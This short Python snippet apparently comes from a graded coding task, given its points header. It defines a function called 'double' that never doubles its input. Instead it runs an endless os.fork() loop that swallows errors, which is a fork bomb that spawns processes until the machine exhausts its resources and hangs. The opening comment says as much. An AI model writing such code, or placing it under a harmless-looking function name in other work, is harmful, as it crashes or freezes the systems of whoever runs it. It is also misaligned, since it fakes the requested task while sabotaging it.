# Every process starts two more.
# points: double=0 total=7 stack=6
# %% double
import os


def double(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
